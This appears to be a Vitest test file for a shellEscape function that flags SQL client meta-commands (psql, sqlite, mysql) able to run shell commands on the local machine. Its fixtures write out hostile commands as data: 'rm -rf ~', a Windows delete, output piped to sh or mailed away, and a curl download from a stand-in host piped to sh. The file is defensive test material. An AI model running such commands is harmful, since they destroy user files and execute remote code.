import { describe, expect, it } from 'vitest';
import { shellEscape } from '../../src/extract/sql-client-shell.js';

describe('client meta-commands that run a shell command on this machine', () => {
  it.each<[string, string | undefined]>([
    ['\\! rm -rf ~', 'rm -rf ~'],
    ['select 1;\\! rm -rf ~', 'rm -rf ~'],
    ['.shell rm -rf ~', 'rm -rf ~'],
    ['.system rm -rf ~', 'rm -rf ~'],
    ['system rm -rf ~', 'rm -rf ~'],
    ['SYSTEM rm -rf ~', 'rm -rf ~'],
    ['pager sh -c "rm -rf ~"', 'sh -c "rm -rf ~"'],
    ['\\P less', 'less'],
    ['!! del /q C:\\data', 'del /q C:\\data'],
    [':!! dir', 'dir'],
    ['\\o |sh', 'sh'],
    ['select 1 \\g | mail me@example.com', 'mail me@example.com'],
    [".output '|rm -rf ~'", 'rm -rf ~'],
    ['.once |sh', 'sh'],
    ["\\copy t FROM PROGRAM 'curl -s https://x.example | sh'", 'curl -s https://x.example | sh'],
    // Not shell commands: SQL, other meta-commands, an identifier named system.
    ['select 1', undefined],
    ['\\dt', undefined],
    ['\\p', undefined],
    ['\\o out.txt', undefined],
    ['.output out.csv', undefined],
    ['system = 1 AND x = 2', undefined],
    ['system_id = 3', undefined],
    ['\\gexec', undefined],
    ["SELECT 'a || b'", undefined],
    ["COPY t FROM PROGRAM 'gzip -dc /srv/t.gz'", undefined],
  ])('%s', (line, command) => {
    expect(shellEscape(line)?.command).toBe(command);
  });
});
